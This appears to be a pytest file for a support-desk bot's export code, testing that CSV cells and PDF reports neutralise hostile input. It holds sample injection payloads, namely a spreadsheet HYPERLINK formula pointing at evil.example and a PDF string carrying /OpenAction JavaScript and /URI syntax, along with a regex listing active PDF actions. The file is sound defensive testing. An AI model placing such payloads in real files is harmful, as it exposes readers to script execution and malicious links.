"""Files that are handed out, full of hostile text: no cell is run by a spreadsheet, and a PDF holds it as letters and does nothing."""

import csv
import io
import re
import zlib
from dataclasses import replace

import pytest

from bot.cell import plain_cell
from bot.content.themes import Themes
from bot.model.changes import Changes
from bot.model.message import Entry, Speaker
from bot.model.risk import Level
from bot.model.worker import Role
from bot.setting_checks import ROOT
from bot.themes.exports import as_csv
from bot.themes.published import Published
from bot.themes.report import Report
from bot.themes.report_pdf import as_report_pdf
from tests.desk_house import ADA, NOW, PLACE, House, house

__all__ = ["house"]

HOSTILE = r") Tj ET endstream /OpenAction << /S /JavaScript /JS (app.alert\(1\)) >> /URI (https://evil.example) \) **b** [x](y) ("
ACTS = re.compile(rb"/(JS|JavaScript|AA|Launch|URI|SubmitForm|ImportData|GoToR|EmbeddedFile|RichMedia|AcroForm)\b")
THEMES = Themes.load(ROOT / "data" / "themes.yml")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_a_cell_that_would_be_run_is_made_text(start: str) -> None:
    assert plain_cell(f"{start}HYPERLINK(1)") == f"'{start}HYPERLINK(1)"
    assert plain_cell(f"he said {start}1") == f"he said {start}1", "only a beginning acts"


def test_a_theme_is_no_formula_in_the_figures(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Themes, "name_of", lambda self, theme: f'=HYPERLINK("https://evil.example?{theme}")')
    table = as_csv(Published({"2026-W45": {"feel.low": 5}}, {}), THEMES, "2026-W45").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(table)))
    assert len(rows) > 40
    assert all(row["name"].startswith("'=HYPERLINK") for row in rows)


def _acts_and_says(pdf: bytes) -> tuple[list[bytes], str]:
    """What of a PDF's objects could do something, and the letters it shows."""
    streams = [zlib.decompress(body) for body in re.findall(rb"stream\n(.*?)\nendstream", pdf, re.S)]
    objects = re.sub(rb"stream\n.*?\nendstream", b"", pdf, flags=re.S)
    strings = [said for body in streams for said in re.findall(rb"\(((?:\\.|[^\\()])*)\) Tj", body, re.S)]
    outside = b"".join(re.sub(rb"\((?:\\.|[^\\()])*\) Tj", b"", body, flags=re.S) for body in streams)
    shown = b" ".join(re.sub(rb"\\(.)", rb"\1", said, flags=re.S) for said in strings).decode("cp1252")
    return ACTS.findall(objects) + ACTS.findall(outside), " ".join(shown.split())


async def test_a_referral_pack_shows_hostile_text_and_does_nothing(house: House) -> None:
    web, _ = await house.person(Role.SUPPORT_WORKER)
    talk, case = await house.store.reads.talk(ADA)
    assert talk
    assert case
    [old] = [line for line in await house.store.reads.transcript(ADA) if line.findings]
    said = Entry(NOW, Speaker.YOUNG_PERSON, HOSTILE, "m2", level=Level.HIGH, findings=(replace(old.findings[0], start=0, end=3),))
    await house.store.commit.commit(Changes(talk, case=case, entries=(said,)))
    acts, shown = _acts_and_says((await web.get(f"{PLACE}/referral.pdf")).content)
    assert not acts
    assert HOSTILE in shown, "letter by letter"


def test_a_report_shows_hostile_text_and_does_nothing() -> None:
    made = Report(
        ("2026-Q3",), (), "said", False, (), (HOSTILE,), ((HOSTILE, HOSTILE),), (("2026-W30", (HOSTILE,)),), ((HOSTILE, "x"),)
    )
    acts, shown = _acts_and_says(as_report_pdf(made))
    assert not acts
    assert shown.count("app.alert") == 5, "in every place that takes words"
    assert HOSTILE in shown


def test_the_look_at_a_pdf_sees_what_acts() -> None:
    """The same page with a link and a script in it is found out, or the tests above prove nothing."""
    from bot.paper import Paper

    pages = Paper("foot")
    pages.add_page()
    pages.set_font("Helvetica", size=10)
    pages.cell(0, 5, "x", link="https://evil.example")
    assert _acts_and_says(bytes(pages.output()))[0]
